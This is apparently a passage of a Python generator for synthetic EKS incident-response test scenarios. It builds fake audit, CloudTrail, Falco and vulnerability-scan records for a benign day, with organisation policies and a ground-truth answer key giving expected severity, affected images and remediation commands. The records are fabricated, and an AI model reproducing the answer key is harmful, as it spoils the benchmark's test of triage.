    audit(T("18:40:12.660413"), u_sa("kube-system", "replicaset-controller"), "delete", f"/api/v1/namespaces/{ns}/pods/{name}",
          oref("pods", ns, name), ua=kcm_ua(C["server"], "replicaset-controller"), reason=controller_reason("replicaset-controller"),
          step="autoscaling")
    # 21:10-21:40, the Tuesday maintenance window: the platform admin restarts the log shipper and looks into a booking-api pod
    aident = M.id_role(C["admin_role"], C["admin_role_id"], C["admin_session"], C["admin_key"], T("21:08:40"))
    ct(T("21:09:02"), aident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["office_ip"],
       ua=cli_ua("eks.update-kubeconfig", "2.22.4", "3.12.6", "Darwin/24.3.0", "arm64"), step="lookalike-maintenance")
    uname = f"arn:aws:sts::{S().account}:assumed-role/{C['admin_role']}/{C['admin_session']}"
    KA = dict(user=u_role(uname, [], S().account, C["admin_role"], C["admin_role_id"], C["admin_session"], C["admin_key"]),
              src=[C["office_ip"]], ua=VB_ADMIN_KUBECTL, reason=M.policy_reason(f"arn:aws:iam::{S().account}:role/{C['admin_role']}", uname),
              step="lookalike-maintenance")
    lns, ls = C["ls_ns"], C["ls"]
    t = T("21:10:44.402118")
    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{lns}/daemonsets/{ls}?fieldManager=kubectl-rollout",
          objref=oref("daemonsets", lns, ls, "apps", uid_=stable_uuid(f"DaemonSet/{lns}/{ls}")), level="RequestResponse",
          req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-05-26T21:10:44Z"}}}}},
          resp={"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": ls, "namespace": lns, "generation": 12},
                "spec": {"template": {"spec": {"containers": vb_ls_containers(), "serviceAccountName": ls}}}}, **KA)
    for (name, n), (old, _) in zip(C["ls_pods"], C["ls_pods_old"]):
        t = later(t, 6)
        audit(t, u_sa("kube-system", "daemon-set-controller"), "delete", f"/api/v1/namespaces/{lns}/pods/{old}", oref("pods", lns, old),
              ua=kcm_ua(C["server"], "daemon-set-controller"), reason=controller_reason("daemon-set-controller"), step="lookalike-maintenance")
        t = later(t, 31)
        C["started"][name] = controller_pod(C, t, lns, name, owner_ref("DaemonSet", ls, lns), n, vb_ls_containers(), ls,
                                            "daemon-set-controller", "benign", "lookalike-maintenance",
                                            labels={"app.kubernetes.io/name": ls, "controller-revision-hash": "84c7d9f6b5"},
                                            host_network=False, tolerations=[{"operator": "Exists"}],
                                            image_ids={ls: C["ls_image_id"]}, pod_ip=n.prefix + str(200 + len(name) % 7))
    # a shell in a booking-api pod to check its configuration (kubectl 1.32: WebSocket, verb get); Falco sees the shell
    pod, n, _ = C["api_pods"][1]
    aid = uid()
    recv, closed = T("21:31:20.118532"), T("21:36:02.440718")
    uri = f"/api/v1/namespaces/{ns}/pods/{pod}/exec?command=sh&container={api}&stdin=true&stdout=true&tty=true"
    K2 = {k: v for k, v in KA.items() if k != "step"}
    for stg, tt in (("ResponseStarted", M.ms(recv, 25, 60)), ("ResponseComplete", closed)):
        audit(tt, verb="get", uri=uri, objref=oref("pods", ns, pod, sub="exec"), code=101, stage=stg, audit_id=aid, received=recv,
              step="lookalike-maintenance", **K2)
    cid = M.container_id(ns, pod, api)[:12]
    repo, tag = C["api_image"].rsplit(":", 1)
    falco(later(recv, 0, 300, 700), 455, "Terminal shell in container", "Notice", n.name,
          ["T1059", "container", "maturity_stable", "mitre_execution", "shell"], "A shell was spawned in a container with an attached terminal",
          fields=dict(M.container_fields(pod, ns, cid, repo, tag, api), **M.proc_fields("execve", "nonroot", 65532, "sh", "/bin/sh", "runc", "sh", 34816),
                      **{"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER"}),
          text_fields=M.proc_text("execve", "nonroot", 65532, "sh", "/bin/sh", "runc", "sh", 34816)
                      + [("exe_flags", "EXE_WRITABLE|EXE_LOWER_LAYER")] + M.container_text(pod, ns, cid, repo, tag, api),
          label="benign", step="lookalike-maintenance")


DEB_CURL = "https://security-tracker.debian.org/tracker/"


def vb_scans(base, files):
    """ECR basic scans (scan on push) of three images, Grype's report of the log shipper from the AMI pipeline."""
    C = VB
    v = lambda s, vec: (s, vec)
    curl = ("CVE-2023-38545", "CRITICAL", "curl", "7.88.1-10+deb12u3",
            "This flaw makes curl overflow a heap based buffer in the SOCKS5 proxy handshake.", DEB_CURL + "CVE-2023-38545",
            v(9.8, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"))
    glibc = ("CVE-2023-4911", "HIGH", "glibc", "2.36-9+deb12u1",
             "A buffer overflow was discovered in the GNU C Library's dynamic loader ld.so while processing the GLIBC_TUNABLES environment variable.",
             DEB_CURL + "CVE-2023-4911", v(7.8, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H"))
    apt = ("CVE-2011-3374", "INFORMATIONAL", "apt", "2.6.1",
           "It was found that apt-key in apt, all versions, do not correctly validate gpg keys with the master keyring.",
           DEB_CURL + "CVE-2011-3374", None)
    ncurses = ("CVE-2023-50495", "MEDIUM", "ncurses", "6.4-4",
               "NCurse v6.4-20230418 was discovered to contain a segmentation fault via the component _nc_wrap_entry().",
               DEB_CURL + "CVE-2023-50495", v(6.5, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"))
    util = ("CVE-2022-0563", "LOW", "util-linux", "2.38.1-5+b1",
            "A flaw was found in the util-linux chfn and chsh utilities when compiled with Readline support.",
            DEB_CURL + "CVE-2022-0563", v(5.5, "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N"))
    db = T("00:00:00")
    for rel, repo, digest, tag, done, fs in (
            ("ecr/booking-api-2026.05.26-1.json", C["api_repo"], C["api_digest"], "2026.05.26-1", T("10:02:41"), [curl, glibc, apt]),
            ("ecr/search-api-2026.05.20-4.json", C["search_repo"], C["search_digest"], "2026.05.20-4", T("15:17:09", "2026-05-20"),
             [ncurses, util, apt]),
            ("ecr/pricing-batch-0.9.4.json", C["pricing_repo"], C["pricing_digest"], "0.9.4", T("08:44:30", "2026-03-02"),
             [curl, glibc, ncurses])):
        write_scan(base, files, rel, ecr_basic_scan(repo, digest, tag, done, db if done.date() == db.date() else done.replace(hour=0, minute=0, second=0), fs),
                   len(fs))
    go = "/usr/local/bin/log-shipper"
    matches = [
        grype_match("CVE-2024-45337", "Critical", "golang.org/x/crypto", "v0.28.0", "go-module", go, ["0.31.0"], "fixed",
                    "Applications and libraries which misuse the ServerConfig.PublicKeyCallback callback may be susceptible to an authorization bypass.",
                    "github:language:go", v(9.1, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N"), language="go"),
        grype_match("CVE-2023-45288", "High", "golang.org/x/net", "v0.19.0", "go-module", go, ["0.23.0"], "fixed",
                    "An attacker may cause an HTTP/2 endpoint to read arbitrary amounts of header data by sending an excessive number of CONTINUATION frames.",
                    "github:language:go", v(7.5, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"), language="go"),
        grype_match("CVE-2011-3374", "Negligible", "apt", "2.6.1", "deb", "/var/lib/dpkg/status", [], "wont-fix",
                    "It was found that apt-key in apt, all versions, do not correctly validate gpg keys with the master keyring.",
                    "debian:distro:debian:12"),
    ]
    # scanned in the AMI build's docker daemon before the image was imported into the AMI: never pushed, no repository digest
    write_scan(base, files, "grype/log-shipper-3.0.7.json",
               grype_report(C["ls_image"], C["ls_image_id"], matches, "2026-05-21T23:12:48.402117+00:00"), len(matches), indent=1)


def vb_snapshot():
    C = VB
    A, B_ = C["nodes"]
    ns, api = C["ns"], C["api"]
    pods = system_pod_objects(C, T("02:41:30", "2026-05-22"), ["10.138.22.40", "10.138.61.66"])
    labels = {"app.kubernetes.io/name": api, "pod-template-hash": C["rs_new"]}
    for name, n, ip in C["api_pods"]:
        p = M.make_pod(name, ns, C["started"][name] - timedelta(seconds=5), vb_api_containers(C["api_image"]), n, ip, labels=labels,
                       owner_ref=owner_ref("ReplicaSet", f"{api}-{C['rs_new']}", ns), sa=api, generate_name=f"{api}-{C['rs_new']}-")
        p["status"]["containerStatuses"][0]["imageID"] = f"{C['ecr']}/{C['api_repo']}@{C['api_digest']}"
        pods.append(p)
    slabels = {"app.kubernetes.io/name": C["search"], "pod-template-hash": C["search_rs"]}
    for name, n, ip in C["search_pods"][:2]:
        p = M.make_pod(name, ns, T("15:22:40", "2026-05-20"), vb_search_containers(), n, ip, labels=slabels,
                       owner_ref=owner_ref("ReplicaSet", f"{C['search']}-{C['search_rs']}", ns), sa=C["search"],
                       generate_name=f"{C['search']}-{C['search_rs']}-")
        p["status"]["containerStatuses"][0]["imageID"] = f"{C['ecr']}/{C['search_repo']}@{C['search_digest']}"
        pods.append(p)
    for name, n in C["ls_pods"]:
        p = M.make_pod(name, C["ls_ns"], C["started"][name] - timedelta(seconds=5), vb_ls_containers(), n, n.prefix + str(200 + len(name) % 7),
                       labels={"app.kubernetes.io/name": C["ls"], "controller-revision-hash": "84c7d9f6b5"},
                       owner_ref=owner_ref("DaemonSet", C["ls"], C["ls_ns"]), sa=C["ls"], generate_name=C["ls"] + "-",
                       volumes=[{"name": "varlog", "hostPath": {"path": "/var/log", "type": ""}}], tolerations=[{"operator": "Exists"}])
        p["spec"]["containers"][0]["imagePullPolicy"] = "Never"
        p["status"]["containerStatuses"][0]["imageID"] = C["ls_image_id"]
        pods.append(p)
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    tl = {"app.kubernetes.io/name": api}
    d1 = M.deployment(api, ns, "2025-08-21T09:12:40Z", 2, tl, tl, vb_api_containers(C["api_image"]), api, C["rs_new"], 77)
    d1["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{api}")
    stl = {"app.kubernetes.io/name": C["search"]}
    d2 = M.deployment(C["search"], ns, "2025-08-21T09:14:02Z", 2, stl, stl, vb_search_containers(), C["search"], C["search_rs"], 40)
    d2["metadata"]["uid"] = stable_uuid(f"Deployment/{ns}/{C['search']}")
    rss = []
    for d, h, cont, n_, rev, created, lab in ((api, C["rs_old"], vb_api_containers(C["api_image_old"]), 0, 76, "2026-05-21T14:30:12Z", tl),
                                              (api, C["rs_new"], vb_api_containers(C["api_image"]), 2, 77, "2026-05-26T10:05:12Z", tl),
                                              (C["search"], C["search_rs"], vb_search_containers(), 2, 40, "2026-05-20T15:22:38Z", stl)):
        rs = M.replicaset(d, ns, h, created, n_, lab, cont, d, rev)
        rs["metadata"]["uid"] = stable_uuid(f"ReplicaSet/{ns}/{d}-{h}")
        rs["metadata"]["ownerReferences"] = [owner_ref("Deployment", d, ns)]
        rss.append(rs)
    ll = {"app.kubernetes.io/name": C["ls"]}
    ds = {"apiVersion": "apps/v1", "kind": "DaemonSet",
          "metadata": meta(C["ls"], C["ls_ns"], "2025-08-20T11:02:19Z", ll, {"deprecated.daemonset.template.generation": "12"},
                           extra={"uid": stable_uuid(f"DaemonSet/{C['ls_ns']}/{C['ls']}"), "generation": 12}),
          "spec": {"selector": {"matchLabels": ll},
                   "template": {"metadata": {"labels": ll, "annotations": {"kubectl.kubernetes.io/restartedAt": "2026-05-26T21:10:44Z"}},
                                "spec": {"containers": vb_ls_containers(), "serviceAccountName": C["ls"], "tolerations": [{"operator": "Exists"}],
                                         "volumes": [{"name": "varlog", "hostPath": {"path": "/var/log"}}]}},
                   "updateStrategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": 1, "maxSurge": 0}}},
          "status": {"currentNumberScheduled": 2, "desiredNumberScheduled": 2, "numberAvailable": 2, "numberReady": 2,
                     "updatedNumberScheduled": 2, "observedGeneration": 12, "numberMisscheduled": 0}}
    nodes = [M.node_object(n, "euw3-az" + str(i + 1), C["snap"], "v1.32.1-eks-5d632ec", "ami-0b3d5f7a9c1e24680") for i, n in enumerate(C["nodes"])]
    sas = system_serviceaccounts("2025-08-19T08:01:12Z") + [M.serviceaccount(n_, ns, "2025-08-21T09:12:38Z") for n_ in (api, C["search"], "default")] \
        + [M.serviceaccount(C["ls"], C["ls_ns"], "2025-08-20T11:02:17Z")]
    crbs = M.system_crbs("2025-08-19T08:01:12Z") + [metrics_server_crb("2025-08-19T08:09:51Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "deployments.json": k8s_list([d1, d2]),
            "replicasets.json": k8s_list(rss), "daemonsets.json": k8s_list([ds]), "serviceaccounts.json": k8s_list(sas),
            "clusterrolebindings.json": k8s_list(crbs),
            "eks-describe-cluster.json": describe_cluster(C, "1.32", "eks.9", ["192.0.2.128/26", "198.51.100.240/28"],
                                                          ["api", "audit", "authenticator"], tags={"env": "production", "team": "booking"})}


VB_STEPS = {
    "lookalike-ci-rollout": "benign: the pipeline (GitHub Actions, role github-actions-deploy) pushes booking-api 2026.05.26-1 (ECR scans it on push: a CRITICAL and a HIGH finding) and sets it on the Deployment (kubectl set image)",
    "rollout-controllers": "benign: the deployment-controller and replicaset-controller roll booking-api out (ReplicaSet booking-api-68c9d7b5f4, two pods, the old ones deleted); the kubelets report the new digest",
    "autoscaling": "benign: the HorizontalPodAutoscaler scales search-api to 3 replicas at 12:31 and back to 2 at 18:40; the replicaset-controller adds and removes the pod",
    "lookalike-maintenance": "benign: in the Tuesday 21:00-23:00 maintenance window the platform admin (lea.moreau@example.com, from the office) restarts the log-shipper DaemonSet (its pods are recreated on both nodes, from the image baked into the AMI) and opens a shell in a booking-api pod (Falco Terminal shell in container)",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def vb_consistency(docs):
    problems = []
    C = VB
    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
    for name, _, _ in C["api_pods"]:
        if image_id_digest(pods[name]["status"]["containerStatuses"][0]["imageID"]) != docs["ecr/booking-api-2026.05.26-1.json"]["imageId"]["imageDigest"]:
            problems.append(f"snapshot: {name} does not run the scanned digest")
    running = {image_id_digest(cs["imageID"]) for p in pods.values() for cs in p["status"]["containerStatuses"]}
    if docs["ecr/pricing-batch-0.9.4.json"]["imageId"]["imageDigest"] in running:
        problems.append("ecr: pricing-batch must be an image no pod runs")
    for name, _ in C["ls_pods"]:
        if image_id_digest(pods[name]["status"]["containerStatuses"][0]["imageID"]):
            problems.append(f"snapshot: {name} must run an image without a repository digest")
    tgt = docs["grype/log-shipper-3.0.7.json"]["source"]["target"]
    if tgt.get("repoDigests") or tgt.get("manifestDigest") or "@" in tgt["userInput"]:
        problems.append("grype: the log shipper's report must name no digest")
    for a in docs["falco/falco.jsonl"]:
        p = pods.get(a["output_fields"].get("k8s.pod.name"))
        if p is None or p["spec"]["nodeName"] != a["hostname"]:
            problems.append(f"falco: {a['rule']} at {a['time']} names a pod not on its host")
    return problems


def build_vulnerable_images_benign(out):
    vb_world()
    C = VB
    vb_day()
    audit_background(C, T("09:30:21.118204"), T("23:00:00"), gap=(90, 150))
    cloudtrail_background(C, range(10, 23, 3))
    base = os.path.join(out, "vulnerable-images-benign")
    files = {}
    write_ct_s3(base, files, ct_records())
    write_audit_log(base, files, audit_events())
    write_falco(base, files)
    write_snapshot(base, files, vb_snapshot())
    vb_scans(base, files)
    A, B_ = C["nodes"]
    ns, api = C["ns"], C["api"]
    head = {
        "scenario": "vulnerable-images-benign",
        "summary": (f"A normal production day on {S().cluster} ({S().account}, {S().region}): the pipeline rolls booking-api out to "
                    f"2026.05.26-1, the HorizontalPodAutoscaler scales search-api up and down, and in the Tuesday maintenance window the "
                    f"platform admin restarts the log-shipper DaemonSet and opens a shell in a booking-api pod. Nothing is malicious. "
                    f"The running images have findings: booking-api (ECR basic scan on push: curl CVE-2023-38545 CRITICAL, glibc "
                    f"CVE-2023-4911 HIGH), joined by the digest the kubelets report; the log shipper, baked into the node AMI and "
                    f"never pushed, is known only by its tag (Grype in the AMI pipeline: golang.org/x/crypto CVE-2024-45337 CRITICAL, "
                    f"golang.org/x/net CVE-2023-45288 HIGH). search-api has only MEDIUM and LOW findings; pricing-batch, scanned in "
                    f"March, runs nowhere. Vulnerable components identified, not exploited: Medium."),
        "severity": "Medium",
        "severity_criteria": [
            {"level": "Medium", "criterion": "vulnerable components identified but not actively exploited",
             "evidence": f"{C['api_image']} (CRITICAL, HIGH) and {C['ls_image']} (CRITICAL, HIGH) run in production; no runtime alert "
                         f"shows either exploited (the only shell is the admin's, in the maintenance window)"},
        ],
        "not_met": ["no attack: every record is benign", "no finding says an exploit is available (ECR basic scanning and Grype do not say)"],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "vulnerable_running_images": {C["api_image"]: {"digest": C["api_digest"], "joined_by": "digest", "scanner": "Amazon ECR (basic)",
                                                           "workloads": [f"Deployment/{ns}/{api}"]},
                                          C["ls_image"]: {"digest": None, "image_id": C["ls_image_id"], "joined_by": "tag", "scanner": "Grype",
                                                          "workloads": [f"DaemonSet/{C['ls_ns']}/{C['ls']}"]}},
            "not_vulnerable_running_image": {C["search_image"]: C["search_digest"]},
            "scanned_not_running": {C["pricing_image"]: C["pricing_digest"]},
            "admin": C["admin_session"], "office_ip": C["office_ip"], "ci_role": f"arn:aws:iam::{S().account}:role/{C['gha_role']}",
        },
        "scans": {
            "ecr/booking-api-2026.05.26-1.json": f"ECR basic scan on push of {C['api_image']} ({C['api_digest']}): CRITICAL, HIGH, INFORMATIONAL",
            "ecr/search-api-2026.05.20-4.json": f"ECR basic scan of {C['search_image']}: MEDIUM, LOW, INFORMATIONAL only",
            "ecr/pricing-batch-0.9.4.json": f"ECR basic scan of {C['pricing_image']} (March): CRITICAL, HIGH, MEDIUM; no workload runs it",
            "grype/log-shipper-3.0.7.json": f"Grype in the AMI pipeline of {C['ls_image']}: no repoDigests, no manifestDigest (never pushed)",
        },
        "joins": [
            "booking-api pods -> status.containerStatuses[].imageID (snapshot and the kubelet's status patches) -> digest -> ECR imageId.imageDigest (repositoryName booking/booking-api, registryId)",
            f"log-shipper pods -> imageID is a bare image id (sha256:..., an image imported into containerd from the AMI, no repository digest) and image {C['ls_image']} -> Grype source.target.userInput / tags: the tag is the only join",
            "search-api pods -> ECR digest of search-api: MEDIUM/LOW only, not listed",
            "pricing-batch: scanned, no pod, Deployment, ReplicaSet or audit record runs it",
        ],
        "benign_lookalikes": [
            "the admin's shell in a booking-api pod (an image with a CRITICAL finding), in the maintenance window: not exploitation",
            "the pipeline's push and image change, the autoscaler's scale up and down, the log shipper's restart",
        ],
        "steps": VB_STEPS,
    }
    rebuilt = f"{C['api_image'].rsplit(':', 1)[0]}:2026.05.26-2@sha256:{'7e' * 32}"
    expect = {
        "plan_args": ["--rebuilt-image", f"{C['api_image'].rsplit(':', 1)[0]}={rebuilt}"],
        "severity": "Medium",
        "criteria": ["medium.vulnerable_component"],
        "criteria_not": ["critical.active_exploitation", "critical.production_impact", "critical.cluster_admin", "high.unauthorised_deployment_change"],
        "affected": [
            {"kind": "image", "name": C["api_image"],
             "attributes": {"joined_by": "digest", "digest": C["api_digest"], "max_severity": "CRITICAL", "scanner": "Amazon ECR",
                            "vulnerabilities": "CVE-2023-38545,CVE-2023-4911", "containers": f"Deployment:{ns}/{api}/{api}",
                            "record": "*ecr/booking-api-2026.05.26-1.json:*"}},
            {"kind": "image", "name": C["ls_image"],
             "attributes": {"joined_by": "tag", "max_severity": "CRITICAL", "scanner": "Grype",
                            "vulnerabilities": "CVE-2024-45337,CVE-2023-45288", "containers": f"DaemonSet:{C['ls_ns']}/{C['ls']}/{C['ls']}",
                            "fixes": "*golang.org/x/crypto v0.28.0 -> 0.31.0*"},
             "why": "no digest on either side: the pods' imageID is a bare image id, Grype names no repository digest"},
        ],
        "not_affected": [
            {"kind": "image", "name": C["search_image"], "why": "MEDIUM and LOW findings only"},
            {"kind": "image", "name": C["search_digest"]},
            {"kind": "image", "name": "*pricing-batch*", "why": "scanned, but no workload runs it"},
            {"kind": "image", "name": C["pricing_digest"]},
            {"kind": "image", "name": C["api_image_old"], "why": "replaced at 10:05 and never scanned here"},
            {"kind": "ip", "name": C["office_ip"]}, {"kind": "iam_role", "name": C["admin_role"]}, {"kind": "iam_role", "name": C["gha_role"]},
            {"kind": "node", "name": A.name}, {"kind": "node", "name": B_.name},
        ] + [{"kind": "pod", "name": p, "namespace": ns} for p, _, _ in C["api_pods"]],
        "plan": [
            # The rebuilt booking-api is given (plan_args): its step runs; the log shipper's is not,
            # so its step has no command yet and says what to rebuild.
            {"phase": "eradicate", "argv": ["kubectl", "set", "image", "deployment", api, f"{api}={rebuilt}"],
             "flags": {"--namespace": ns}, "blocked": False,
             "why": "booking-api rolled out on the image the pipeline rebuilt with the fixes"},
            {"phase": "eradicate", "argv": [], "blocked": True,
             "blocked_contains": "golang.org/x/crypto v0.28.0 -> 0.31.0"},
        ],
        "plan_not": [
            {"phase": "contain", "argv": ["kubectl", "cordon"]},
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy"],
             "why": "nothing is compromised: no isolation"},
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "pod"]},
            {"phase": "contain|eradicate", "argv": ["kubectl", "set", "image", "deployment", C['search']],
             "why": "search-api has no CRITICAL or HIGH finding"},
            {"phase": "contain", "argv": ["iam"]},
        ],
    }
    counts = finish_truth(out, "vulnerable-images-benign", head, files, expect,
                          ("lookalike-ci-rollout", "lookalike-maintenance", "autoscaling"))
    return base, files, counts, check(base, os.path.join(out, "vulnerable-images-benign.truth.json"), vb_consistency)


# =============================================================================================
# Organisation policies (eksir.yaml beside each scenario) and main
# =============================================================================================
POLICIES = {
    "access-entry-xacct": """# Organisation policy for the access-entry-xacct scenario (keys: docs/config.md).

trusted_registries:
  - "246813579024.dkr.ecr.eu-west-1.amazonaws.com"   # this account's ECR: ledger-api
  - "602401143452.dkr.ecr.*"                         # EKS add-on images
  - registry.k8s.io

expected_namespaces: [ledger]

production:
  clusters: [prod-ledger]
  namespaces: [ledger, kube-system]

# The VPC, the NAT gateway and the GitHub runners (198.51.100.64/26), the office (192.0.2.0/26).
trusted_cidrs: [10.61.0.0/16, 198.51.100.64/26, 192.0.2.0/26]

admin_principals:
  - arn:aws:iam::246813579024:role/platform-admin
  - system:masters

cicd_identities:
  - arn:aws:iam::246813579024:role/terraform-platform

expected_nodegroups: [prod-ledger-workers]

expected_daemonsets: [aws-node, kube-proxy]
""",
    "anonymous-binding": """# Organisation policy for the anonymous-binding scenario (keys: docs/config.md).

trusted_registries:
  - "318273645091.dkr.ecr.ap-southeast-2.amazonaws.com"   # this account's ECR: catalog-api
  - "602401143452.dkr.ecr.*"
  - registry.k8s.io

expected_namespaces: [catalog]

production:
  clusters: [prod-catalog]
  namespaces: [catalog, kube-system]

# The VPC, the NAT gateway (198.51.100.35) and the office (192.0.2.0/26).
trusted_cidrs: [10.72.0.0/16, 198.51.100.32/27, 192.0.2.0/26]

admin_principals:
  - arn:aws:iam::318273645091:role/platform-admin
  - "arn:aws:sts::318273645091:assumed-role/platform-admin/*"   # its Kubernetes username (access entry)
  - system:masters

cicd_identities:
  - arn:aws:iam::318273645091:role/github-actions-deploy

expected_nodegroups: [prod-catalog-general]

expected_daemonsets: [aws-node, kube-proxy]

# Platform maintenance: Tuesdays 22:00-00:00 UTC (the theft is on a Thursday night).
maintenance_windows:
  - {days: [tue], from: "22:00", to: "23:59"}
""",
    "aws-auth-cronjob": """# Organisation policy for the aws-auth-cronjob scenario (keys: docs/config.md).

trusted_registries:
  - "427135608249.dkr.ecr.us-east-2.amazonaws.com"   # this account's ECR: checkout-api, checkout-report
  - "602401143452.dkr.ecr.*"
  - registry.k8s.io

expected_namespaces: [checkout]

production:
  clusters: [prod-checkout]
  namespaces: [checkout, kube-system]

# The VPC and the GitLab runners' egress / NAT gateway (198.51.100.128/26).
trusted_cidrs: [10.83.0.0/16, 198.51.100.128/26]

admin_principals:
  - arn:aws:iam::427135608249:role/platform-admin

# The GitLab pipeline deploys with a long-lived key of this IAM user (mapped in aws-auth).
cicd_identities:
  - arn:aws:iam::427135608249:user/gitlab-deployer
  - gitlab-deployer

expected_nodegroups: [prod-checkout-general]

expected_daemonsets: [aws-node, kube-proxy]
""",
    "imds-s3-exfil": """# Organisation policy for the imds-s3-exfil scenario (keys: docs/config.md).

trusted_registries:
  - "583920174635.dkr.ecr.eu-central-1.amazonaws.com"   # this account's ECR: spark-history
  - "602401143452.dkr.ecr.*"
  - quay.io/prometheus/*                               # node-exporter
  - registry.k8s.io

expected_namespaces: [analytics, monitoring]

production:
  clusters: [prod-analytics]
  namespaces: [analytics, monitoring, kube-system]

# The VPC, the Argo CD hub (198.51.100.210) and the NAT gateway (198.51.100.230).
trusted_cidrs: [10.94.0.0/16, 198.51.100.192/26]

admin_principals:
  - arn:aws:iam::583920174635:role/platform-admin

# The Argo CD hub manages this cluster with the argocd-manager service account's token.
cicd_identities:
  - system:serviceaccount:kube-system:argocd-manager

expected_nodegroups: [prod-analytics-spark, prod-analytics-general]

expected_daemonsets: [aws-node, kube-proxy, node-exporter]
""",
    "logging-off": """# Organisation policy for the logging-off scenario (keys: docs/config.md).

trusted_registries:
  - "692581437026.dkr.ecr.ca-central-1.amazonaws.com"   # this account's ECR: identity-api
  - "602401143452.dkr.ecr.*"
  - registry.k8s.io

expected_namespaces: [identity]

production:
  clusters: [prod-identity]
  namespaces: [identity, kube-system]

# The VPC, the office (192.0.2.0/25), the CI runners and the NAT gateway (198.51.100.96/27).
trusted_cidrs: [10.105.0.0/16, 192.0.2.0/25, 198.51.100.96/27]

admin_principals:
  - arn:aws:iam::692581437026:role/aws-reserved/sso.amazonaws.com/ca-central-1/AWSReservedSSO_AdministratorAccess_3c1d5e7f9a2b4c6d
  - "arn:aws:sts::692581437026:assumed-role/AWSReservedSSO_AdministratorAccess_3c1d5e7f9a2b4c6d/*"

cicd_identities:
  - arn:aws:iam::692581437026:role/github-actions-terraform
  - arn:aws:iam::692581437026:role/prod-ci-release

expected_nodegroups: [prod-identity-general]

expected_daemonsets: [aws-node, kube-proxy]

# Identity platform changes: Saturdays 02:00-04:00 UTC.
maintenance_windows:
  - {days: [sat], from: "02:00", to: "04:00"}
""",
    "shared-ground": """# Organisation policy for the shared-ground scenario (keys: docs/config.md).
# What a responder in a hurry fills in: the production cluster and its namespaces, the registries.
# Nothing says which addresses, admins or pipelines are trusted.

trusted_registries:
  - "350918273645.dkr.ecr.eu-north-1.amazonaws.com"   # this account's ECR: ledger-api
  - "602401143452.dkr.ecr.*"                          # EKS add-on images

production:
  clusters: [prod-finance]
  namespaces: [ledger, kube-system]
""",
    "vulnerable-web-image": """# Organisation policy for the vulnerable-web-image scenario (keys: docs/config.md).

trusted_registries:
  - "736251409812.dkr.ecr.ap-northeast-1.amazonaws.com"   # this account's ECR: customer-portal, report-worker
  - "602401143452.dkr.ecr.*"                              # EKS add-on images
  - registry.k8s.io

expected_namespaces: [portal]

production:
  clusters: [prod-portal]
  namespaces: [portal, kube-system]

# The VPC, the NAT gateway and the GitHub runners (198.51.100.192/26), the office (192.0.2.64/26).
trusted_cidrs: [10.127.0.0/16, 198.51.100.192/26, 192.0.2.64/26]

admin_principals:
  - arn:aws:iam::736251409812:role/platform-admin

cicd_identities:
  - arn:aws:iam::736251409812:role/github-actions-deploy
  - github-actions-deploy

expected_nodegroups: [prod-portal-general]

expected_daemonsets: [aws-node, kube-proxy]
""",
    "vulnerable-images-benign": """# Organisation policy for the vulnerable-images-benign scenario (keys: docs/config.md).

trusted_registries:
  - "847362915037.dkr.ecr.eu-west-3.amazonaws.com"   # this account's ECR: booking-api, search-api (and the log shipper's name)
  - "602401143452.dkr.ecr.*"                         # EKS add-on images
  - registry.k8s.io

expected_namespaces: [booking, logging]

production:
  clusters: [prod-travel]
  namespaces: [booking, logging, kube-system]

# The VPC, the NAT gateway and the GitHub runners (198.51.100.240/28), the office (192.0.2.128/26).
trusted_cidrs: [10.138.0.0/16, 198.51.100.240/28, 192.0.2.128/26]

admin_principals:
  - arn:aws:iam::847362915037:role/platform-admin
  - "arn:aws:sts::847362915037:assumed-role/platform-admin/*"

cicd_identities:
  - arn:aws:iam::847362915037:role/github-actions-deploy
  - github-actions-deploy

expected_nodegroups: [prod-travel-general]

expected_daemonsets: [aws-node, kube-proxy, log-shipper]

# Platform maintenance: Tuesdays 21:00-23:00 UTC.
maintenance_windows:
  - {days: [tue], from: "21:00", to: "23:00"}
""",
}

BUILDERS = [("access-entry-xacct", build_access_entry_xacct), ("anonymous-binding", build_anonymous_binding),
            ("aws-auth-cronjob", build_aws_auth_cronjob), ("imds-s3-exfil", build_imds_s3_exfil), ("logging-off", build_logging_off),
            ("shared-ground", build_shared_ground), ("vulnerable-web-image", build_vulnerable_web_image),
            ("vulnerable-images-benign", build_vulnerable_images_benign)]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.join(HERE, "scenarios"),
                    help="directory that receives the scenario folders, their truth files and policies")
    args = ap.parse_args()
    bad = 0
    for name, build in BUILDERS:
        base = os.path.join(args.out, name)
        if os.path.isdir(base):
            for root, dirs, names in os.walk(base, topdown=False):
                for n in names:
                    os.remove(os.path.join(root, n))
                for d in dirs:
                    os.rmdir(os.path.join(root, d))
        write(os.path.join(args.out, f"{name}.eksir.yaml"), POLICIES[name])
        base, files, counts, problems = build(args.out)
        print(f"{name}:")
        for k in sorted(files):
            print(f"  {files[k]:5d}  {k}")
        print(f"  ground truth: {counts['attack']} attack records, {counts['benign']} benign records")
        for p in problems:
